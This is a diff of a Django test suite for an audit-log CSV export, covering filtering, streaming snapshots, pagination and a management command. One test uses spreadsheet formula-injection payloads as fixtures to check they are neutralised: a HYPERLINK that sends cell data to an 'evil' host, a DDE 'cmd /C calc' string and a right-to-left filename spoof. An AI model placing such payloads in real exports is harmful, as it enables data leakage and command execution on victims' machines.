@@ -14,7 +14,7 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.http import QueryDict
 
-from audits.exports import HEADER, stream_export
+from audits.exports import HEADER, PAGE_ROWS, Snapshot, stream_export
 from audits.filters import EventFilter
 from audits.ingest import finish_run, ingest_records, start_run
 from audits.models import Event
@@ -115,7 +115,10 @@ def test_the_export_holds_exactly_the_events_the_filter_selects_oldest_first(adm
 def test_the_export_matches_the_explorer_filter_on_a_generated_month(admin_client, query):
     ingest(generate_records(600, seed=7, start=datetime(2026, 10, 1, tzinfo=UTC), days=20))
     expected = list(
-        EventFilter.from_querydict(QueryDict(query)).events().order_by("event_time", "id").values_list("event_id", flat=True)
+        EventFilter.from_querydict(QueryDict(query))
+        .events()
+        .order_by("event_time", "id")
+        .values_list("event_id", flat=True)
     )
     _, body = download(admin_client, query)
     assert [row["event_id"] for row in parse(body)] == expected
@@ -178,17 +181,17 @@ def test_formula_like_cells_are_neutralised_and_everything_else_is_kept_verbatim
                 identity=identity_role(ACCOUNT, "app", "=1+1"),
                 user_agent='=HYPERLINK("http://evil/?d="&A1,"click")',
                 error_code="AccessDenied",
-                error_message='@SUM(1+9)*cmd|\' /C calc\'!A0\r\nsecond line, with "quotes"',
+                error_message="@SUM(1+9)*cmd|' /C calc'!A0\r\nsecond line, with \"quotes\"",
                 encryption_context={"=cmd": "-2+3"},
             ),
-            record(event_id="e-rtl", identity=identity_user(ACCOUNT, "eve\u202egnp.exe"), user_agent=' \t+cmd'),
+            record(event_id="e-rtl", identity=identity_user(ACCOUNT, "eve\u202egnp.exe"), user_agent=" \t+cmd"),
         ]
     )
     _, body = download(admin_client)
     hostile, rtl = parse(body)
     assert hostile["session_name"] == "'=1+1"
     assert hostile["user_agent"] == '\'=HYPERLINK("http://evil/?d="&A1,"click")'
-    assert hostile["error_message"] == '\'@SUM(1+9)*cmd|\' /C calc\'!A0\r\nsecond line, with "quotes"'
+    assert hostile["error_message"] == "'@SUM(1+9)*cmd|' /C calc'!A0\r\nsecond line, with \"quotes\""
     # JSON starts with "{", which no spreadsheet reads as a formula.
     assert hostile["encryption_context"] == '{"=cmd": "-2+3"}'
     assert rtl["principal"].endswith("eve\u202egnp.exe")
@@ -237,15 +240,16 @@ def test_every_download_is_audited_with_the_filter_row_count_and_hash(admin_clie
     assert audit.kind == "events" and audit.via == "web"
     assert audit.rows == 5 == len(parse(body))
     assert audit.sha256 == hashlib.sha256(body).hexdigest()
-    assert {k: v for k, v in audit.filters.items() if k != "as_of"} == {"operation": "Decrypt", "after_hours": "0"}
-    assert before <= datetime.fromisoformat(audit.filters["as_of"]) <= after
+    snapshot = {k: audit.filters.pop(k) for k in ("as_of", "last_id")}
+    assert audit.filters == {"operation": "Decrypt", "after_hours": "0"}
+    assert before <= datetime.fromisoformat(snapshot["as_of"]) <= after
+    assert snapshot["last_id"] == Event.objects.latest("id").pk
 
 
 def test_a_download_cut_short_is_recorded_as_aborted_with_what_was_sent(admin_client):
     ingest(generate_records(1300, seed=3, start=datetime(2026, 10, 1, tzinfo=UTC), days=5))
-    as_of = datetime.now(UTC)
     audit = start_export_audit(user=None, kind="events", filters={})
-    stream = stream_export(EventFilter(), as_of, audit)
+    stream = stream_export(EventFilter(), Snapshot.now(), audit)
     first = next(stream)
     stream.close()  # what the WSGI server does when the client goes away
     audit.refresh_from_db()
@@ -255,18 +259,38 @@ def test_a_download_cut_short_is_recorded_as_aborted_with_what_was_sent(admin_cl
 
 
 def test_events_written_while_the_export_streams_do_not_change_it(admin_client):
-    # More than one database fetch (2000 rows), so the query is still open when the late event lands.
-    ingest(generate_records(2600, seed=5, start=T0 - timedelta(days=2), days=1))
+    ingest(generate_records(PAGE_ROWS + 600, seed=5, start=T0 - timedelta(days=2), days=1))
     with time_machine.travel(T0, tick=False) as clock:
         response = admin_client.get(URL)
         chunks = iter(response.streaming_content)
         body = next(chunks)
         clock.shift(timedelta(minutes=10))
-        ingest([record(event_id="e-late", event_time=T0 + timedelta(minutes=5))])
+        # New calls since the export began, and a late CloudTrail delivery of an old call, both
+        # after the rows already sent.
+        ingest(
+            [
+                record(event_id="e-new", event_time=T0 + timedelta(minutes=5)),
+                record(event_id="e-late", event_time=T0 - timedelta(hours=1)),
+            ]
+        )
         body += b"".join(chunks)
     rows = parse(body)
-    assert "e-late" not in {row["event_id"] for row in rows}
-    assert len(rows) == 2600 == ExportAudit.objects.get().rows
+    assert not {"e-new", "e-late"} & {row["event_id"] for row in rows}
+    assert len(rows) == PAGE_ROWS + 600 == ExportAudit.objects.get().rows
+    _, again = download(admin_client)
+    assert {"e-new", "e-late"} <= {row["event_id"] for row in parse(again)}
+
+
+def test_rows_with_the_same_time_across_a_page_boundary_are_neither_lost_nor_repeated(admin_client):
+    same = T0 - timedelta(hours=1)
+    ingest([record(event_id=f"s-{i:05d}", event_time=same) for i in range(PAGE_ROWS + 5)])
+    ingest([record(event_id="after", event_time=same + timedelta(seconds=1))])
+    rows = parse(download(admin_client)[1])
+    ids = [row["event_id"] for row in rows]
+    assert len(ids) == len(set(ids)) == PAGE_ROWS + 6
+    assert ids[-1] == "after"
+    stored = list(Event.objects.order_by("event_time", "id").values_list("event_id", flat=True))
+    assert ids == stored
 
 
 def test_an_invalid_filter_is_refused_rather_than_exporting_everything(admin_client):
@@ -318,15 +342,27 @@ def test_the_command_writes_the_same_bytes_as_the_web_export_and_is_audited(admi
     _, web = download(admin_client, f"key={key}&error=any&since=2026-10-02&until=2026-10-08")
     output = tmp_path / "out.csv"
     call_command(
-        "export_audit_csv", "--key", key, "--failed", "--since", "2026-10-02", "--until", "2026-10-08",
-        "--output", str(output), stderr=io.StringIO(),
+        "export_audit_csv",
+        "--key",
+        key,
+        "--failed",
+        "--since",
+        "2026-10-02",
+        "--until",
+        "2026-10-08",
+        "--output",
+        str(output),
+        stderr=io.StringIO(),
     )
     assert output.read_bytes() == web
     cli = ExportAudit.objects.get(via="cli")
     assert cli.user is None and cli.status == ExportAudit.Status.COMPLETED
     assert cli.sha256 == hashlib.sha256(web).hexdigest()
-    assert {k: v for k, v in cli.filters.items() if k != "as_of"} == {
-        "key": key, "error": "any", "since": "2026-10-02", "until": "2026-10-08"
+    assert {k: v for k, v in cli.filters.items() if k not in ("as_of", "last_id")} == {
+        "key": key,
+        "error": "any",
+        "since": "2026-10-02",
+        "until": "2026-10-08",
     }
 
 
@@ -335,8 +371,15 @@ def test_the_command_maps_after_hours_operation_and_principal(admin_client, tmp_
     principal = Event.objects.exclude(principal="").values_list("principal", flat=True).first()
     output = tmp_path / "out.csv"
     call_command(
-        "export_audit_csv", "--after-hours", "--operation", "Decrypt", "--principal", principal,
-        "--output", str(output), stderr=io.StringIO(),
+        "export_audit_csv",
+        "--after-hours",
+        "--operation",
+        "Decrypt",
+        "--principal",
+        principal,
+        "--output",
+        str(output),
+        stderr=io.StringIO(),
     )
     expected = Event.objects.filter(after_hours=True, event_name="Decrypt", principal=principal)
     assert expected.exists()
